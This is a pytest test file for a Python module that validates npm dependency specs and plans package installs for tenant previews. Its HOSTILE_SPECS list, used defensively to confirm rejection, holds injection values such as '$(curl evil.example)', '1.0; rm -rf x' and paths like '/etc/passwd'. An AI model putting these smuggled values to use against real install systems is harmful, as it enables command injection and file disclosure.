"""previewnode.deps: which dependency specs a tenant may name, and the install plan (pure)."""

from __future__ import annotations

import itertools
import json
import re
from pathlib import Path

import pytest

from previewcore.errors import InvalidContent
from previewnode.deps import Plan, nearest_lockfile, plan, requested, satisfied

RUNTIME = {"react": "19.1.0", "react-dom": "19.1.0", "lodash": "4.17.21", "@scope/ui": "2.3.4"}
KEY_RE = re.compile(r"^[0-9a-f]{20}$")


def deps_of(spec: object, name: str = "pkg") -> dict[str, str]:
    return requested({"dependencies": {name: spec}})


# --- requested --------------------------------------------------------------------------


@pytest.mark.parametrize("doc", [None, {}, {"name": "app"}, {"dependencies": {}}])
def test_no_dependencies_means_an_empty_request(doc: object) -> None:
    assert requested(doc) == {}


def test_dependencies_and_dev_dependencies_are_both_requested() -> None:
    doc = {"dependencies": {"react": "^19.0.0"}, "devDependencies": {"lodash": "~4.17.0"}}
    assert requested(doc) == {"react": "^19.0.0", "lodash": "~4.17.0"}


def test_build_tooling_is_never_requested_whatever_version_it_names() -> None:
    doc = {
        "dependencies": {"react": "^19.0.0", "vite": "^5.0.0", "@vitejs/plugin-react": "^4"},
        "devDependencies": {
            "tailwindcss": "^3",
            "typescript": "~5.4",
            "@types/react": "^18",
            "eslint-plugin-react": "^7",
            "@typescript-eslint/parser": "^7",
            "postcss": "^8",
            "autoprefixer": "^10",
        },
    }
    assert requested(doc) == {"react": "^19.0.0"}


def test_in_a_sandbox_all_tooling_is_requested_its_own_vite_included() -> None:
    """The app's own config runs there, on the app's own Vite and plugins."""
    doc = {
        "dependencies": {"react": "^18.3.1"},
        "devDependencies": {"vite": "^5.4.1", "@vitejs/plugin-react": "^4", "tailwindcss": "^3"},
    }
    assert requested(doc, own_tooling=True) == {
        "react": "^18.3.1",
        "vite": "^5.4.1",
        "@vitejs/plugin-react": "^4",
        "tailwindcss": "^3",
    }


@pytest.mark.parametrize("doc", [[], "{}", 1, True, [{"dependencies": {}}]])
def test_a_package_json_that_is_not_an_object_is_422(doc: object) -> None:
    with pytest.raises(InvalidContent, match="must be a JSON object"):
        requested(doc)


@pytest.mark.parametrize(
    "doc",
    [
        {"dependencies": ["react"]},
        {"dependencies": "react"},
        {"devDependencies": [["react", "1"]]},
        {"dependencies": 1},
    ],
)
def test_a_dependency_section_that_is_not_an_object_is_422(doc: object) -> None:
    with pytest.raises(InvalidContent, match="must be an object"):
        requested(doc)


@pytest.mark.parametrize(
    ("spec", "expected"),
    [
        ("^19.0.0", "^19.0.0"),
        ("~1.2.3", "~1.2.3"),
        ("1.2.3", "1.2.3"),
        ("4.x", "4.x"),
        ("*", "*"),
        (">=1.0.0 <2", ">=1.0.0 <2"),
        ("1.0.0 || ^2.1", "1.0.0 || ^2.1"),
        ("1.0.0 - 2.0.0", "1.0.0 - 2.0.0"),
        ("latest", "latest"),
        ("next", "next"),
        ("beta.1", "beta.1"),
        (" ^1.0.0 ", "^1.0.0"),  # stored stripped
        ("", ""),  # npm reads an empty spec as '*'
    ],
)
def test_registry_versions_ranges_and_dist_tags_are_accepted(spec: str, expected: str) -> None:
    assert deps_of(spec) == {"pkg": expected}


HOSTILE_SPECS = [
    # local paths and links
    "file:../secrets",
    "file:/etc",
    "link:../other",
    "../x",
    "./x",
    "/etc/passwd",
    "~/x",
    "C:\\x",
    "..\\x",
    # git and hosted shorthands
    "git+https://github.com/a/b.git",
    "git+ssh://git@github.com/a/b.git",
    "git://github.com/a/b",
    "git@github.com:a/b.git",
    "github:a/b",
    "gitlab:a/b",
    "bitbucket:a/b",
    "gist:abc123",
    "a/b",
    "a/b#main",
    # URLs and other protocols
    "https://evil.example/x.tgz",
    "http://evil.example/x.tgz",
    "ftp:evil",
    "workspace:*",
    "portal:../x",
    "patch:x@1",
    "npm:other@1",
    "jsr:@std/x",
    # shell metacharacters
    "$(curl evil.example)",
    "`id`",
    "1.0; rm",
    "1.0; rm -rf x",
    "1.0\nrm",
    "^1 && touch x",
    "^1 ; touch x",
    "^1 | cat",
    "^1 $HOME",
    "1 `id`",
    # tarball file names: npm reads them as local files
    "evil.tgz",
    "evil.tar.gz",
    "EVIL.TAR",
    # not a range
    "not a version!",
    "~",
    "..",
    "1" * 300,
]


@pytest.mark.parametrize("spec", HOSTILE_SPECS)
def test_non_registry_dependency_specs_are_refused_422(spec: str) -> None:
    with pytest.raises(InvalidContent) as info:
        deps_of(spec)
    assert info.value.status == 422 and info.value.code == "invalid_content"


@pytest.mark.parametrize("spec", [1, 1.5, None, True, ["^1"], {"version": "^1"}])
def test_a_dependency_version_that_is_not_a_string_is_422(spec: object) -> None:
    with pytest.raises(InvalidContent, match="must be a string"):
        deps_of(spec)


@pytest.mark.parametrize(
    "name",
    [
        "../evil",
        "a/../b",
        "@scope/../x",
        "@../x",
        "@scope/a/b",
        "a/b",
        "/abs",
        ".hidden",
        "_under",
        "UPPER",
        "a b",
        "a\\b",
        "",
        "@scope",
        "@scope/",
        "@/x",
        "a" * 215,
        "node_modules/x",
        "a\x00",
    ],
)
def test_a_dependency_name_that_is_not_an_npm_name_is_422(name: str) -> None:
    with pytest.raises(InvalidContent, match="not a valid npm package name"):
        deps_of("^1.0.0", name)


@pytest.mark.parametrize("name", ["react", "@scope/ui", "lodash.merge", "a-b_c~d", "a" * 214])
def test_ordinary_npm_names_are_accepted(name: str) -> None:
    assert deps_of("^1.0.0", name) == {name: "^1.0.0"}


@pytest.mark.parametrize("spec", ["file:../x", "git+https://github.com/a/b.git", "a/b"])
def test_a_tooling_dependency_with_a_hostile_spec_is_still_refused(spec: str) -> None:
    with pytest.raises(InvalidContent):
        requested({"devDependencies": {"vite": spec}})


# --- plan -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "deps",
    [
        {},
        {"react": "^19.0.0"},
        {"react": "^19.0.0", "react-dom": "19.1.0", "lodash": "4.x"},
        {"@scope/ui": "~2.3.0"},
        {"react": "latest"},  # a dist-tag is satisfied by what is installed
        {"lodash": ">=4 <5"},
    ],
)
def test_dependencies_the_runtime_satisfies_use_the_runtime(deps: dict[str, str]) -> None:
    assert plan(deps, RUNTIME) == Plan("runtime", {})
    assert plan(deps, RUNTIME).uses_runtime


@pytest.mark.parametrize(
    "deps",
    [
        {"react": "^18.0.0"},  # wrong major
        {"left-pad": "^1.0.0"},  # not in the runtime
        {"left-pad": "latest"},
        {"react": "^19.0.0", "left-pad": "^1.0.0"},  # one unsatisfied: the whole set
        {"lodash": "~4.16.0"},
    ],
)
def test_dependencies_the_runtime_does_not_satisfy_get_a_keyed_install_of_the_whole_set(
    deps: dict[str, str],
) -> None:
    p = plan(deps, RUNTIME)
    assert not p.uses_runtime and KEY_RE.match(p.key)
    assert dict(p.deps) == deps and list(p.deps) == sorted(deps)


SET = {"left-pad": "^1.0.0", "react": "^18.0.0", "zod": "3.x", "@a/b": "1.0.0"}


@pytest.mark.parametrize("order", list(itertools.permutations(SET)))
def test_the_plan_key_is_the_same_for_the_same_set_in_any_order(order: tuple[str, ...]) -> None:
    assert plan({name: SET[name] for name in order}, RUNTIME) == plan(SET, RUNTIME)


@pytest.mark.parametrize(
    "other",
    [
        {**SET, "zod": "3.1.x"},  # one spec differs
        {k: v for k, v in SET.items() if k != "zod"},  # one fewer
        {**SET, "extra": "1"},  # one more
        {**{k: v for k, v in SET.items() if k != "zod"}, "zoe": "3.x"},  # a name differs
    ],
)
def test_a_different_set_gets_a_different_key(other: dict[str, str]) -> None:
    assert plan(other, RUNTIME).key != plan(SET, RUNTIME).key


def test_the_key_depends_on_the_set_only_not_on_the_runtime() -> None:
    assert plan(SET, RUNTIME).key == plan(SET, {}).key == plan(SET, {"react": "17.0.0"}).key


@pytest.mark.parametrize(
    ("spec", "version", "expected"),
    [
        ("^1.2.0", "1.9.0", True),
        ("^1.2.0", "2.0.0", False),
        ("^1.2.0", "1.1.9", False),
        ("~1.2.0", "1.2.9", True),
        ("~1.2.0", "1.3.0", False),
        ("1.x", "1.99.0", True),
        (">=1 <2", "1.5.0", True),
        ("1.0.0 || 3.0.0", "3.0.0", True),
        ("latest", "0.0.1", True),
        ("*", "5.0.0", True),
        ("^1.0.0", "not-a-version", False),
        ("^1.0.0", "1.0.0-beta.1", False),  # prereleases do not satisfy a plain range
    ],
)
def test_satisfied_follows_npm_semver(spec: str, version: str, expected: bool) -> None:
    assert satisfied(spec, version) is expected


def test_a_new_set_starts_from_the_lockfile_of_the_installed_set_most_like_it(
    tmp_path: Path,
) -> None:
    def installed(key: str, deps: dict[str, str], complete: bool = True) -> Path:
        d = tmp_path / key
        d.mkdir()
        (d / "package.json").write_text(json.dumps({"dependencies": deps}))
        (d / "pnpm-lock.yaml").write_text(key)
        if complete:
            (d / ".complete").write_text("1")
        return d / "pnpm-lock.yaml"

    installed("a", {"react": "^18.3.1", "clsx": "^2.1.1"})
    near = installed("b", {"react": "^18.3.1", "clsx": "^2.1.1", "zod": "^3"})
    installed("c", {"react": "^18.3.1", "clsx": "^2.1.1", "zod": "^3", "x": "1"}, False)
    (tmp_path / "broken").mkdir()
    (tmp_path / "broken" / ".complete").write_text("1")
    (tmp_path / "broken" / "pnpm-lock.yaml").write_text("x")
    (tmp_path / "broken" / "package.json").write_text("[1, 2]")
    wanted = {"react": "^18.3.1", "clsx": "^2.1.1", "zod": "^3", "is-number": "^7.0.0"}
    assert nearest_lockfile(tmp_path, wanted) == near  # c is not complete: never
    assert nearest_lockfile(tmp_path, {"vue": "^3"}) is None  # nothing shared
    assert nearest_lockfile(tmp_path / "missing", wanted) is None
